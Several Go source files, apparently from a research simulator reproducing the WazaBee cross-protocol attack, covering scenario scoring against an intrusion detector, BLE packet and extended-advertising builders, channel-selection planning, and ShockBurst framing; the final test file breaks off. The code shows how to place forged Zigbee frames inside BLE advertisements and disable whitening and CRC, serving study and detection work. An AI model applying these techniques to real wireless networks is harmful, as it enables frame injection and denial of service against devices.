// The paper's scenarios A (frame injection) and B (channel-migration
// denial of service) are two points of the catalogue; the
// energy-depletion family (forced retransmission, sleep deprivation)
// follows Ghost-in-the-Wireless (arXiv:1410.1613), association flooding
// and replay/impersonation round out the population, and a
// benign-traffic baseline measures the false-positive cost of every
// detector threshold.
//
// Determinism: a scenario instance is a pure function of its Options —
// the mesh follows the simulator's SplitMix64 seed discipline, the
// attack schedule runs on the same event loop, and the frame-tier
// fingerprint draws are keyed on the (deterministic) global capture
// sequence. Same options, same Outcome, byte for byte; the matrix
// inherits the runner's bit-identical-at-any-worker-count contract.
package campaign

import (
	"fmt"
	"sort"
	"strings"
	"time"

	"wazabee/internal/ids"
	"wazabee/internal/radio"
)

// Default experimental parameters shared by every scenario.
const (
	// DefaultDevices is the end-device count of the standard star mesh.
	DefaultDevices = 4
	// DefaultDuration is how much virtual time one scenario run covers.
	DefaultDuration = 30 * time.Second
	// DefaultSNRdB matches the simulator's default link budget.
	DefaultSNRdB = 25
	// DefaultAttackStart leaves the mesh time to form before the
	// attacker keys up (association flooding starts earlier — its whole
	// point is to hit the join window).
	DefaultAttackStart = 10 * time.Second
)

// Options parameterises one scenario instance. The zero value of every
// field selects the catalogue default.
type Options struct {
	// Seed drives the mesh, the attack schedule and the fingerprint
	// draws.
	Seed int64
	// Fidelity is the mesh delivery tier (symbol or frame; zero selects
	// frame, the cheap tier campaigns sweep on).
	Fidelity radio.Fidelity
	// Threshold is the IDS soft-EVM decision threshold; zero selects
	// ids.DefaultFingerprintThreshold.
	Threshold float64
	// SNRdB is the victim link budget; zero selects DefaultSNRdB.
	SNRdB float64
	// Duration is the virtual time simulated; zero selects the
	// scenario's default.
	Duration time.Duration
	// Devices is the number of end devices in the star mesh; zero
	// selects DefaultDevices.
	Devices int
	// Chip selects the energy accountant's current-draw profile
	// ("cc2652", "nrf52840"; empty selects cc2652).
	Chip string
}

func (o *Options) fill() {
	if o.Fidelity == 0 {
		o.Fidelity = radio.FidelityFrame
	}
	if o.Threshold == 0 {
		o.Threshold = ids.DefaultFingerprintThreshold
	}
	if o.SNRdB == 0 {
		o.SNRdB = DefaultSNRdB
	}
	if o.Duration <= 0 {
		o.Duration = DefaultDuration
	}
	if o.Devices <= 0 {
		o.Devices = DefaultDevices
	}
}

// Outcome is one scenario run's score card. Every field is a
// deterministic function of the instance's Options, so byte-comparing
// two marshalled Outcomes is a valid same-seed identity check.
type Outcome struct {
	// Scenario and Seed identify the run.
	Scenario string `json:"scenario"`
	Seed     int64  `json:"seed"`

	// Detected reports whether any detector fired during the attack
	// window (for the benign baseline: at all — every benign alert is a
	// false positive).
	Detected bool `json:"detected"`
	// DetectionLatency is the virtual time from attack start to the
	// first in-window alert; -1 when undetected.
	DetectionLatency time.Duration `json:"detection_latency_ns"`
	// FirstAlert is the alert kind that fired first, "" when undetected.
	FirstAlert string `json:"first_alert,omitempty"`
	// FingerprintDetected and FramingDetected report which detectors
	// fired inside the attack window — the per-detector ROC columns.
	FingerprintDetected bool `json:"fingerprint_detected"`
	FramingDetected     bool `json:"framing_detected"`
	// AlertFrames counts monitored frames that raised at least one
	// alert (in or out of the attack window).
	AlertFrames int `json:"alert_frames"`
	// Alerts tallies every alert by kind over the whole run.
	Alerts map[string]int `json:"alerts,omitempty"`

	// FramesInjected counts attacker frames put on the air;
	// FramesAccepted those that survived collision, deafness and
	// erasure and were processed by a victim MAC.
	FramesInjected uint64 `json:"frames_injected"`
	FramesAccepted uint64 `json:"frames_accepted"`

	// NodesDisrupted counts nodes not joined to the PAN at scenario
	// end — devices the attack detached or kept from associating.
	NodesDisrupted int `json:"nodes_disrupted"`
	// ChannelMigrations counts nodes detached by a forged remote AT
	// retune (the scenario B signature).
	ChannelMigrations uint64 `json:"channel_migrations"`
	// Readings counts sensor readings the coordinator accepted —
	// goodput, including any spoofed readings the attack slipped in.
	Readings uint64 `json:"readings"`

	// EnergyMicrojoules is the victims' total radio energy over the run
	// (the PR 8 ledger). EnergyDrained is the victims' active-radio
	// (non-idle) energy surplus against a same-seed attack-free twin —
	// the budget a duty-cycled device would have slept through. The
	// always-on listening baseline is excluded: in this MAC idle and RX
	// draw the same current, so flooding cannot raise it (turnaround
	// even draws less), and a total-energy difference would score a
	// depletion flood as a net saving. Computed only for the
	// energy-depletion scenario family (0 elsewhere).
	EnergyMicrojoules        float64 `json:"energy_microjoules"`
	EnergyDrainedMicrojoules float64 `json:"energy_drained_microjoules"`
}

// Scenario is one catalogue entry: a named, repeatable attack (or the
// benign baseline) that can be instantiated onto a fresh mesh at a
// seed, run to completion, and scored.
type Scenario interface {
	// Name is the stable catalogue identifier ("scenario-a-injection").
	Name() string
	// Description is the one-line human summary.
	Description() string
	// Attack reports whether the scenario injects traffic; false only
	// for the benign baseline.
	Attack() bool
	// Setup instantiates the scenario: a fresh mesh, the monitor, and
	// the attack schedule, all derived from opts.
	Setup(opts Options) (Instance, error)
}

// Instance is one prepared scenario run.
type Instance interface {
	// Run drives the mesh (and the attack) through the configured
	// virtual duration.
	Run() error
	// Score folds the run into its Outcome. Call after Run.
	Score() Outcome
}

// Catalogue returns the scenario catalogue in stable order: the benign
// baseline first, then the attacks.
func Catalogue() []Scenario {
	out := make([]Scenario, len(catalogue))
	for i := range catalogue {
		out[i] = &catalogue[i]
	}
	return out
}

// ByName resolves a catalogue scenario.
func ByName(name string) (Scenario, error) {
	for i := range catalogue {
		if catalogue[i].name == name {
			return &catalogue[i], nil
		}
	}
	return nil, fmt.Errorf("campaign: unknown scenario %q (have %s)", name, strings.Join(Names(), ", "))
}

// Names lists the catalogue scenario names in stable order.
func Names() []string {
	names := make([]string, len(catalogue))
	for i := range catalogue {
		names[i] = catalogue[i].name
	}
	return names
}

// ParseScenarios resolves a CLI-style selection: "all" (or empty) for
// the whole catalogue, otherwise a comma-separated name list. The
// result preserves catalogue order and drops duplicates.
func ParseScenarios(sel string) ([]Scenario, error) {
	sel = strings.TrimSpace(sel)
	if sel == "" || sel == "all" {
		return Catalogue(), nil
	}
	want := map[string]bool{}
	for _, name := range strings.Split(sel, ",") {
		name = strings.TrimSpace(name)
		if name == "" {
			continue
		}
		if _, err := ByName(name); err != nil {
			return nil, err
		}
		want[name] = true
	}
	if len(want) == 0 {
		return nil, fmt.Errorf("campaign: empty scenario selection %q", sel)
	}
	var out []Scenario
	for i := range catalogue {
		if want[catalogue[i].name] {
			out = append(out, &catalogue[i])
		}
	}
	return out, nil
}

// sortedAlertKinds returns the outcome's alert kinds in stable order
// (for text rendering; JSON maps already marshal sorted).
func sortedAlertKinds(alerts map[string]int) []string {
	kinds := make([]string, 0, len(alerts))
	for k := range alerts {
		kinds = append(kinds, k)
	}
	sort.Strings(kinds)
	return kinds
}
