// Package ble implements the Bluetooth Low Energy lower layers needed by
// the WazaBee attack: the GFSK physical layer (LE 1M, LE 2M and the
// Enhanced ShockBurst 2 Mbit/s fallback), link-layer packet assembly with
// whitening and CRC-24, the channel map, Channel Selection Algorithm #2 and
// the extended-advertising PDUs used by the smartphone scenario.
package ble

import "fmt"

// ChannelCount is the number of BLE RF channels.
const ChannelCount = 40

// Advertising channel indices.
const (
	AdvChannel37 = 37
	AdvChannel38 = 38
	AdvChannel39 = 39
)

// DataChannelCount is the number of data channels usable as secondary
// advertising channels with LE 2M.
const DataChannelCount = 37

// AdvAccessAddress is the fixed Access Address of advertising PDUs.
const AdvAccessAddress uint32 = 0x8e89bed6

// ChannelFrequencyMHz returns the centre frequency of a BLE channel index
// (0..39). Channels 37, 38 and 39 sit at 2402, 2426 and 2480 MHz; data
// channels 0..36 are spaced 2 MHz apart from 2404 MHz upward, skipping the
// advertising frequencies.
func ChannelFrequencyMHz(channel int) (float64, error) {
	switch {
	case channel == AdvChannel37:
		return 2402, nil
	case channel == AdvChannel38:
		return 2426, nil
	case channel == AdvChannel39:
		return 2480, nil
	case channel >= 0 && channel <= 10:
		return 2404 + 2*float64(channel), nil
	case channel >= 11 && channel <= 36:
		return 2428 + 2*float64(channel-11), nil
	default:
		return 0, fmt.Errorf("ble: channel %d out of range [0,39]", channel)
	}
}

// ChannelForFrequencyMHz returns the BLE channel index whose centre
// frequency equals freq, or an error when no channel sits there.
func ChannelForFrequencyMHz(freq float64) (int, error) {
	for ch := 0; ch < ChannelCount; ch++ {
		f, err := ChannelFrequencyMHz(ch)
		if err != nil {
			return 0, err
		}
		if f == freq {
			return ch, nil
		}
	}
	return 0, fmt.Errorf("ble: no channel at %g MHz", freq)
}

// IsDataChannel reports whether the index names one of the 37 data
// channels.
func IsDataChannel(channel int) bool {
	return channel >= 0 && channel <= 36
}
