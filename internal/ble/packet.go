package ble

import (
	"fmt"

	"wazabee/internal/bitstream"
)

// Packet is a BLE link-layer packet before modulation.
type Packet struct {
	// AccessAddress identifies the connection or advertising stream.
	AccessAddress uint32
	// PDU is the link-layer protocol data unit (header + payload).
	PDU []byte
	// Channel is the RF channel index used for whitening (0..39).
	Channel int
	// Mode selects the PHY, which determines the preamble length.
	Mode Mode
	// DisableWhitening bypasses the whitening LFSR, a configuration
	// WazaBee relies on when the chip exposes it (the nRF52832 does).
	DisableWhitening bool
	// DisableCRC omits the CRC-24, used when abusing the radio as a raw
	// 2 Mbit/s modem.
	DisableCRC bool
	// CRCInit is the CRC-24 preset (0x555555 on advertising channels).
	CRCInit uint32
}

// preambleByte returns the alternating preamble octet whose first
// transmitted bit equals the LSB of the Access Address, per the core
// specification.
func preambleByte(aa uint32) byte {
	if aa&1 == 1 {
		return 0x55
	}
	return 0xaa
}

// AirBits assembles the exact on-air bit sequence of the packet: preamble,
// Access Address, then the (optionally whitened) PDU and CRC.
func (p *Packet) AirBits() (bitstream.Bits, error) {
	if p.Channel < 0 || p.Channel >= ChannelCount {
		return nil, fmt.Errorf("ble: channel %d out of range", p.Channel)
	}
	if _, err := p.Mode.SymbolRate(); err != nil {
		return nil, err
	}

	var bits bitstream.Bits
	pre := preambleByte(p.AccessAddress)
	for i := 0; i < p.Mode.PreambleLength(); i++ {
		bits = append(bits, bitstream.BytesToBits([]byte{pre})...)
	}
	bits = append(bits, bitstream.Uint32ToBits(p.AccessAddress)...)

	body := make([]byte, 0, len(p.PDU)+3)
	body = append(body, p.PDU...)
	if !p.DisableCRC {
		crc := bitstream.CRC24Bytes(bitstream.CRC24(p.CRCInit, p.PDU))
		body = append(body, crc[0], crc[1], crc[2])
	}
	bodyBits := bitstream.BytesToBits(body)
	if !p.DisableWhitening {
		w, err := bitstream.NewWhitener(p.Channel)
		if err != nil {
			return nil, err
		}
		w.Apply(bodyBits)
	}
	return append(bits, bodyBits...), nil
}

// ParseAirBits reverses AirBits on a received bit stream that starts at
// the PDU (immediately after the Access Address): it de-whitens when
// whitening is enabled, extracts pduLen bytes and verifies the CRC when
// enabled. It returns the PDU and whether the CRC verified (true when CRC
// checking is disabled).
func (p *Packet) ParseAirBits(bits bitstream.Bits, pduLen int) ([]byte, bool, error) {
	total := pduLen
	if !p.DisableCRC {
		total += 3
	}
	if len(bits) < total*8 {
		return nil, false, fmt.Errorf("ble: capture too short: %d bits, need %d", len(bits), total*8)
	}
	body := bitstream.Clone(bits[:total*8])
	if !p.DisableWhitening {
		w, err := bitstream.NewWhitener(p.Channel)
		if err != nil {
			return nil, false, err
		}
		w.Apply(body)
	}
	data, err := bitstream.BitsToBytes(body)
	if err != nil {
		return nil, false, err
	}
	pdu := data[:pduLen]
	if p.DisableCRC {
		return pdu, true, nil
	}
	want := bitstream.CRC24Bytes(bitstream.CRC24(p.CRCInit, pdu))
	got := data[pduLen:]
	ok := want[0] == got[0] && want[1] == got[1] && want[2] == got[2]
	return pdu, ok, nil
}
