package ble

import (
	"encoding/binary"
	"fmt"
)

// Extended advertising PDU construction (Bluetooth 5 "Advertising
// Extensions"). Scenario A transmits attacker-chosen bytes inside the
// AdvData of an AUX_ADV_IND on a secondary (data) channel at LE 2M, which
// is the only way an unprivileged application can place a large controlled
// payload on an arbitrary data channel.

// PDUTypeAdvExt is the advertising PDU type shared by ADV_EXT_IND and
// AUX_ADV_IND.
const PDUTypeAdvExt = 0x07

// ADTypeManufacturer is the AD structure type for manufacturer-specific
// data, the container scenario A uses for the forged frame.
const ADTypeManufacturer = 0xff

// AuxAdvIndOverhead is the number of PDU bytes before the
// manufacturer-specific payload in the AUX_ADV_IND built here: 2 (header)
// + 1 (ext header length/AdvMode) + 1 (ext header flags) + 6 (AdvA) + 2
// (ADI) + 1 (AD length) + 1 (AD type) + 2 (company ID) = 16, matching the
// "padding size of 16 bytes" reported in the paper.
const AuxAdvIndOverhead = 16

// extended header flag bits.
const (
	extFlagAdvA   = 1 << 0
	extFlagADI    = 1 << 3
	extFlagAuxPtr = 1 << 4
)

// AuxPtr describes where the auxiliary advertisement will be transmitted.
type AuxPtr struct {
	// ChannelIndex is the secondary advertising channel (0..36).
	ChannelIndex int
	// OffsetUsec is the time from the start of the ADV_EXT_IND to the
	// start of the AUX_ADV_IND.
	OffsetUsec int
	// PHY is the secondary PHY (LE1M or LE2M).
	PHY Mode
}

// BuildAdvExtInd builds the primary-channel ADV_EXT_IND pointing at the
// auxiliary packet. It carries no host data, only the ADI and AuxPtr.
func BuildAdvExtInd(sid uint8, did uint16, aux AuxPtr) ([]byte, error) {
	if !IsDataChannel(aux.ChannelIndex) {
		return nil, fmt.Errorf("ble: aux channel %d is not a data channel", aux.ChannelIndex)
	}
	if sid > 0x0f {
		return nil, fmt.Errorf("ble: advertising SID %d exceeds 4 bits", sid)
	}
	if did > 0x0fff {
		return nil, fmt.Errorf("ble: advertising DID %#x exceeds 12 bits", did)
	}

	payload := make([]byte, 0, 7)
	// Extended header length (6 bits) | AdvMode (2 bits, 00 =
	// non-connectable non-scannable).
	payload = append(payload, byte(6)) // flags + ADI(2) + AuxPtr(3)
	payload = append(payload, extFlagADI|extFlagAuxPtr)
	payload = binary.LittleEndian.AppendUint16(payload, did|uint16(sid)<<12)
	auxBytes, err := encodeAuxPtr(aux)
	if err != nil {
		return nil, err
	}
	payload = append(payload, auxBytes...)

	header := []byte{PDUTypeAdvExt, byte(len(payload))}
	return append(header, payload...), nil
}

// BuildAuxAdvInd builds the secondary-channel AUX_ADV_IND whose AdvData is
// a single manufacturer-specific AD structure wrapping data. The data
// starts exactly AuxAdvIndOverhead bytes into the PDU.
func BuildAuxAdvInd(advA [6]byte, sid uint8, did uint16, companyID uint16, data []byte) ([]byte, error) {
	if sid > 0x0f {
		return nil, fmt.Errorf("ble: advertising SID %d exceeds 4 bits", sid)
	}
	if did > 0x0fff {
		return nil, fmt.Errorf("ble: advertising DID %#x exceeds 12 bits", did)
	}
	// AD length byte covers type + company ID + data and must fit one
	// byte; the PDU length must fit its 8-bit field too.
	adLen := 1 + 2 + len(data)
	if adLen > 0xff {
		return nil, fmt.Errorf("ble: AD structure length %d exceeds 255", adLen)
	}

	payload := make([]byte, 0, AuxAdvIndOverhead-2+len(data))
	payload = append(payload, byte(9)) // ext header: flags + AdvA(6) + ADI(2)
	payload = append(payload, extFlagAdvA|extFlagADI)
	payload = append(payload, advA[:]...)
	payload = binary.LittleEndian.AppendUint16(payload, did|uint16(sid)<<12)
	payload = append(payload, byte(adLen), ADTypeManufacturer)
	payload = binary.LittleEndian.AppendUint16(payload, companyID)
	payload = append(payload, data...)

	if len(payload) > 0xff {
		return nil, fmt.Errorf("ble: AUX_ADV_IND payload %d exceeds 255 bytes", len(payload))
	}
	header := []byte{PDUTypeAdvExt, byte(len(payload))}
	return append(header, payload...), nil
}

// ParseAuxAdvInd extracts the manufacturer-specific data from an
// AUX_ADV_IND built by BuildAuxAdvInd.
func ParseAuxAdvInd(pdu []byte) (advA [6]byte, companyID uint16, data []byte, err error) {
	if len(pdu) < AuxAdvIndOverhead {
		return advA, 0, nil, fmt.Errorf("ble: AUX_ADV_IND too short (%d bytes)", len(pdu))
	}
	if pdu[0]&0x0f != PDUTypeAdvExt {
		return advA, 0, nil, fmt.Errorf("ble: PDU type %#x is not ADV_EXT", pdu[0]&0x0f)
	}
	if int(pdu[1]) != len(pdu)-2 {
		return advA, 0, nil, fmt.Errorf("ble: PDU length field %d does not match %d payload bytes", pdu[1], len(pdu)-2)
	}
	if pdu[3]&extFlagAdvA == 0 || pdu[3]&extFlagADI == 0 {
		return advA, 0, nil, fmt.Errorf("ble: missing AdvA/ADI in extended header")
	}
	copy(advA[:], pdu[4:10])
	adLen := int(pdu[12])
	if pdu[13] != ADTypeManufacturer {
		return advA, 0, nil, fmt.Errorf("ble: AD type %#x is not manufacturer data", pdu[13])
	}
	if 12+1+adLen > len(pdu) {
		return advA, 0, nil, fmt.Errorf("ble: AD structure overruns PDU")
	}
	companyID = binary.LittleEndian.Uint16(pdu[14:16])
	data = append([]byte{}, pdu[16:12+1+adLen]...)
	return advA, companyID, data, nil
}

func encodeAuxPtr(aux AuxPtr) ([]byte, error) {
	if aux.PHY != LE1M && aux.PHY != LE2M {
		return nil, fmt.Errorf("ble: aux PHY %v unsupported", aux.PHY)
	}
	// Offset units: 30 µs below 245700 µs, else 300 µs.
	units := 30
	unitsBit := 0
	if aux.OffsetUsec >= 245700 {
		units = 300
		unitsBit = 1
	}
	offset := aux.OffsetUsec / units
	if offset > 0x1fff {
		return nil, fmt.Errorf("ble: aux offset %d µs out of range", aux.OffsetUsec)
	}
	phyBits := 0 // LE 1M
	if aux.PHY == LE2M {
		phyBits = 1
	}
	b0 := byte(aux.ChannelIndex) | byte(unitsBit)<<7
	b1 := byte(offset & 0xff)
	b2 := byte(offset>>8) | byte(phyBits)<<5
	return []byte{b0, b1, b2}, nil
}

// DecodeAuxPtr parses the three AuxPtr bytes of an ADV_EXT_IND built by
// BuildAdvExtInd (it appears at payload offset 4, PDU offset 6).
func DecodeAuxPtr(pdu []byte) (AuxPtr, error) {
	if len(pdu) < 9 {
		return AuxPtr{}, fmt.Errorf("ble: ADV_EXT_IND too short (%d bytes)", len(pdu))
	}
	if pdu[0]&0x0f != PDUTypeAdvExt {
		return AuxPtr{}, fmt.Errorf("ble: PDU type %#x is not ADV_EXT", pdu[0]&0x0f)
	}
	if pdu[3]&extFlagAuxPtr == 0 {
		return AuxPtr{}, fmt.Errorf("ble: no AuxPtr present")
	}
	raw := pdu[6:9]
	units := 30
	if raw[0]>>7 == 1 {
		units = 300
	}
	offset := (int(raw[1]) | int(raw[2]&0x1f)<<8) * units
	phy := LE1M
	if raw[2]>>5 == 1 {
		phy = LE2M
	}
	return AuxPtr{
		ChannelIndex: int(raw[0] & 0x3f),
		OffsetUsec:   offset,
		PHY:          phy,
	}, nil
}
