package ble

import (
	"fmt"
	"sort"
)

// CSA2 implements Channel Selection Algorithm #2 (Bluetooth Core
// Specification Vol 6 Part B §4.5.8.3), the pseudo-random hop sequence
// used both by connections and by extended advertising to pick the
// secondary advertising channel. Scenario A depends on its statistics: the
// attacker cannot choose the AUX channel directly and instead repeats
// advertising events until the algorithm lands on the wanted channel.
type CSA2 struct {
	channelIdentifier uint16
	used              []int
}

// NewCSA2 builds a selector for the given Access Address and channel map
// (the list of usable data channel indices, 0..36). An empty map means all
// 37 data channels are usable.
func NewCSA2(accessAddress uint32, usedChannels []int) (*CSA2, error) {
	used := append([]int{}, usedChannels...)
	if len(used) == 0 {
		for ch := 0; ch < DataChannelCount; ch++ {
			used = append(used, ch)
		}
	}
	for _, ch := range used {
		if !IsDataChannel(ch) {
			return nil, fmt.Errorf("ble: channel map entry %d is not a data channel", ch)
		}
	}
	sort.Ints(used)
	return &CSA2{
		channelIdentifier: uint16(accessAddress>>16) ^ uint16(accessAddress),
		used:              used,
	}, nil
}

// perm reverses the bit order within each byte of a 16-bit value, the
// permutation step of the algorithm.
func perm(v uint16) uint16 {
	rev8 := func(b uint16) uint16 {
		b = (b&0xf0)>>4 | (b&0x0f)<<4
		b = (b&0xcc)>>2 | (b&0x33)<<2
		b = (b&0xaa)>>1 | (b&0x55)<<1
		return b
	}
	return rev8(v>>8)<<8 | rev8(v&0xff)
}

// mam is the multiply-add-modulo step: (17·a + b) mod 2^16.
func mam(a, b uint16) uint16 {
	return 17*a + b // uint16 arithmetic wraps mod 2^16
}

// prnE computes the event pseudo-random number for a counter value.
func (c *CSA2) prnE(counter uint16) uint16 {
	prn := counter ^ c.channelIdentifier
	for i := 0; i < 3; i++ {
		prn = mam(perm(prn), c.channelIdentifier)
	}
	return prn ^ c.channelIdentifier
}

// Channel returns the data channel selected for the given event counter.
func (c *CSA2) Channel(eventCounter uint16) int {
	prn := c.prnE(eventCounter)
	unmapped := int(prn % DataChannelCount)
	for _, ch := range c.used {
		if ch == unmapped {
			return ch
		}
	}
	remapIndex := int(uint32(len(c.used)) * uint32(prn) / 65536)
	return c.used[remapIndex]
}

// EventsUntil returns the first event counter in [start, start+limit) for
// which the algorithm selects target, and ok=false when none does. This is
// the attacker's planning primitive in scenario A.
func (c *CSA2) EventsUntil(target int, start uint16, limit int) (counter uint16, ok bool) {
	for i := 0; i < limit; i++ {
		ctr := start + uint16(i)
		if c.Channel(ctr) == target {
			return ctr, true
		}
	}
	return 0, false
}
