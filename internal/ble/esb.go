package ble

// Enhanced ShockBurst (ESB), Nordic's proprietary protocol on the same
// GFSK radio as BLE. The nRF51822 of scenario B lacks LE 2M, so the
// paper runs WazaBee over ESB's 2 Mbit/s mode instead; this file
// implements ESB's own framing for completeness — it is also the
// protocol of the MouseJack/radiobit line of work the paper's related
// work discusses ([15]–[19]).
//
// One detail matters: unlike BLE, ESB transmits each byte most
// significant bit first, and its 9-bit packet control field forces
// bit-level (not byte-level) CRC computation.

import (
	"fmt"

	"wazabee/internal/bitstream"
)

// ESB packet size limits.
const (
	ESBMinAddress = 3
	ESBMaxAddress = 5
	ESBMaxPayload = 32
)

// ESBPacket is an Enhanced ShockBurst packet (dynamic-length mode).
type ESBPacket struct {
	// Address is the 3–5 byte pipe address, transmitted first byte
	// first, each byte MSB first.
	Address []byte
	// PID is the 2-bit packet identity used for deduplication.
	PID uint8
	// NoAck suppresses the automatic acknowledgement.
	NoAck bool
	// Payload carries up to 32 bytes.
	Payload []byte
}

// msbBits expands bytes MSB-first, the ESB on-air order.
func msbBits(data []byte) bitstream.Bits {
	out := make(bitstream.Bits, 0, len(data)*8)
	for _, b := range data {
		for i := 7; i >= 0; i-- {
			out = append(out, (b>>uint(i))&1)
		}
	}
	return out
}

// AirBits assembles the on-air bit sequence: preamble, address, 9-bit
// PCF (length, PID, no-ack), payload and 16-bit CRC over everything
// after the preamble.
func (p *ESBPacket) AirBits() (bitstream.Bits, error) {
	if len(p.Address) < ESBMinAddress || len(p.Address) > ESBMaxAddress {
		return nil, fmt.Errorf("ble: ESB address length %d outside [%d,%d]", len(p.Address), ESBMinAddress, ESBMaxAddress)
	}
	if len(p.Payload) > ESBMaxPayload {
		return nil, fmt.Errorf("ble: ESB payload length %d exceeds %d", len(p.Payload), ESBMaxPayload)
	}
	if p.PID > 3 {
		return nil, fmt.Errorf("ble: ESB PID %d exceeds 2 bits", p.PID)
	}

	// Preamble alternates and starts opposite to the address MSB.
	preamble := byte(0x55)
	if p.Address[0]&0x80 != 0 {
		preamble = 0xaa
	}

	bits := msbBits([]byte{preamble})
	crcRegion := msbBits(p.Address)
	// PCF: 6-bit length, 2-bit PID, 1-bit no-ack, MSB first.
	pcf := bitstream.Bits{
		byte(len(p.Payload)>>5) & 1, byte(len(p.Payload)>>4) & 1, byte(len(p.Payload)>>3) & 1,
		byte(len(p.Payload)>>2) & 1, byte(len(p.Payload)>>1) & 1, byte(len(p.Payload)) & 1,
		(p.PID >> 1) & 1, p.PID & 1,
		0,
	}
	if p.NoAck {
		pcf[8] = 1
	}
	crcRegion = append(crcRegion, pcf...)
	crcRegion = append(crcRegion, msbBits(p.Payload)...)

	crc := bitstream.CRC16CCITTBits(crcRegion, 0xffff)
	crcBits := msbBits([]byte{byte(crc >> 8), byte(crc)})

	bits = append(bits, crcRegion...)
	return append(bits, crcBits...), nil
}

// ParseESBAirBits decodes a bit stream that starts at the first address
// bit (after the receiver matched the address, like a hardware pipe
// correlator) into an ESB packet. addressLen selects the pipe address
// width. It verifies the CRC.
func ParseESBAirBits(bits bitstream.Bits, addressLen int) (*ESBPacket, error) {
	if addressLen < ESBMinAddress || addressLen > ESBMaxAddress {
		return nil, fmt.Errorf("ble: ESB address length %d outside [%d,%d]", addressLen, ESBMinAddress, ESBMaxAddress)
	}
	header := addressLen*8 + 9
	if len(bits) < header+16 {
		return nil, fmt.Errorf("ble: ESB capture too short (%d bits)", len(bits))
	}
	pcf := bits[addressLen*8 : addressLen*8+9]
	length := 0
	for _, b := range pcf[:6] {
		length = length<<1 | int(b)
	}
	if length > ESBMaxPayload {
		return nil, fmt.Errorf("ble: ESB length field %d exceeds %d", length, ESBMaxPayload)
	}
	total := header + length*8 + 16
	if len(bits) < total {
		return nil, fmt.Errorf("ble: ESB capture truncated: %d bits, need %d", len(bits), total)
	}

	wantCRC := bitstream.CRC16CCITTBits(bits[:header+length*8], 0xffff)
	gotCRC := uint16(0)
	for _, b := range bits[header+length*8 : total] {
		gotCRC = gotCRC<<1 | uint16(b)
	}
	if wantCRC != gotCRC {
		return nil, fmt.Errorf("ble: ESB CRC mismatch (%#04x != %#04x)", gotCRC, wantCRC)
	}

	pkt := &ESBPacket{
		PID:   pcf[6]<<1 | pcf[7],
		NoAck: pcf[8] == 1,
	}
	pkt.Address = packMSB(bits[:addressLen*8])
	pkt.Payload = packMSB(bits[header : header+length*8])
	return pkt, nil
}

// packMSB packs an MSB-first bit sequence into bytes (length must be a
// multiple of 8, guaranteed by the callers).
func packMSB(bits bitstream.Bits) []byte {
	out := make([]byte, len(bits)/8)
	for i, b := range bits {
		out[i/8] = out[i/8]<<1 | b
	}
	return out
}
