package ble

import (
	"bytes"
	"testing"
	"testing/quick"

	"wazabee/internal/bitstream"
)

func TestESBAirBitsLayout(t *testing.T) {
	pkt := &ESBPacket{
		Address: []byte{0xe7, 0xe7, 0xe7, 0xe7, 0xe7},
		PID:     2,
		Payload: []byte{0x01, 0x02},
	}
	bits, err := pkt.AirBits()
	if err != nil {
		t.Fatal(err)
	}
	// 1 preamble + 5 address + 2 payload + 2 CRC bytes + 9 PCF bits.
	want := 8*(1+5+2+2) + 9
	if len(bits) != want {
		t.Errorf("air bits = %d, want %d", len(bits), want)
	}
	// Address MSB is 1 → preamble 0xAA (1010… MSB first).
	if bits[:8].String() != "10101010" {
		t.Errorf("preamble = %s", bits[:8])
	}
	// First address byte 0xE7 MSB-first.
	if bits[8:16].String() != "11100111" {
		t.Errorf("address bits = %s", bits[8:16])
	}
}

func TestESBPreamblePolarity(t *testing.T) {
	pkt := &ESBPacket{Address: []byte{0x17, 0x17, 0x17}}
	bits, err := pkt.AirBits()
	if err != nil {
		t.Fatal(err)
	}
	if bits[:8].String() != "01010101" {
		t.Errorf("preamble for low-MSB address = %s, want 01010101", bits[:8])
	}
}

func TestESBRoundTrip(t *testing.T) {
	f := func(payload []byte, pid uint8, noAck bool) bool {
		if len(payload) > ESBMaxPayload {
			payload = payload[:ESBMaxPayload]
		}
		pkt := &ESBPacket{
			Address: []byte{0xc0, 0xff, 0xee, 0x42},
			PID:     pid % 4,
			NoAck:   noAck,
			Payload: payload,
		}
		bits, err := pkt.AirBits()
		if err != nil {
			return false
		}
		got, err := ParseESBAirBits(bits[8:], len(pkt.Address))
		if err != nil {
			return false
		}
		return bytes.Equal(got.Address, pkt.Address) &&
			bytes.Equal(got.Payload, pkt.Payload) &&
			got.PID == pkt.PID && got.NoAck == pkt.NoAck
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestESBValidation(t *testing.T) {
	if _, err := (&ESBPacket{Address: []byte{1, 2}}).AirBits(); err == nil {
		t.Error("expected error for short address")
	}
	if _, err := (&ESBPacket{Address: make([]byte, 6)}).AirBits(); err == nil {
		t.Error("expected error for long address")
	}
	if _, err := (&ESBPacket{Address: []byte{1, 2, 3}, Payload: make([]byte, 33)}).AirBits(); err == nil {
		t.Error("expected error for oversized payload")
	}
	if _, err := (&ESBPacket{Address: []byte{1, 2, 3}, PID: 4}).AirBits(); err == nil {
		t.Error("expected error for PID overflow")
	}
	if _, err := ParseESBAirBits(make(bitstream.Bits, 10), 3); err == nil {
		t.Error("expected error for short capture")
	}
	if _, err := ParseESBAirBits(make(bitstream.Bits, 300), 9); err == nil {
		t.Error("expected error for bad address length")
	}
}

func TestESBCRCRejectsCorruption(t *testing.T) {
	pkt := &ESBPacket{Address: []byte{0xaa, 0xbb, 0xcc}, Payload: []byte{1, 2, 3, 4}}
	bits, err := pkt.AirBits()
	if err != nil {
		t.Fatal(err)
	}
	stream := bits[8:]
	for i := 0; i < len(stream); i += 7 {
		bad := bitstream.Clone(stream)
		bad[i] ^= 1
		if _, err := ParseESBAirBits(bad, 3); err == nil {
			t.Fatalf("corrupted bit %d accepted", i)
		}
	}
}

func TestESBLengthFieldBounds(t *testing.T) {
	pkt := &ESBPacket{Address: []byte{1, 2, 3}, Payload: []byte{9}}
	bits, err := pkt.AirBits()
	if err != nil {
		t.Fatal(err)
	}
	stream := bitstream.Clone(bits[8:])
	// Force the 6-bit length field to 63.
	for i := 24; i < 30; i++ {
		stream[i] = 1
	}
	if _, err := ParseESBAirBits(stream, 3); err == nil {
		t.Error("expected error for length field over 32")
	}
}

// TestESBOverGFSKModem sends a native ESB packet through the same 2
// Mbit/s GFSK modem WazaBee diverts on the nRF51822: the tracker's own
// protocol and the attack share one radio path.
func TestESBOverGFSKModem(t *testing.T) {
	phy, err := NewPHY(ESB2M, 8)
	if err != nil {
		t.Fatal(err)
	}
	pkt := &ESBPacket{
		Address: []byte{0xe7, 0xe7, 0xe7, 0xe7},
		PID:     1,
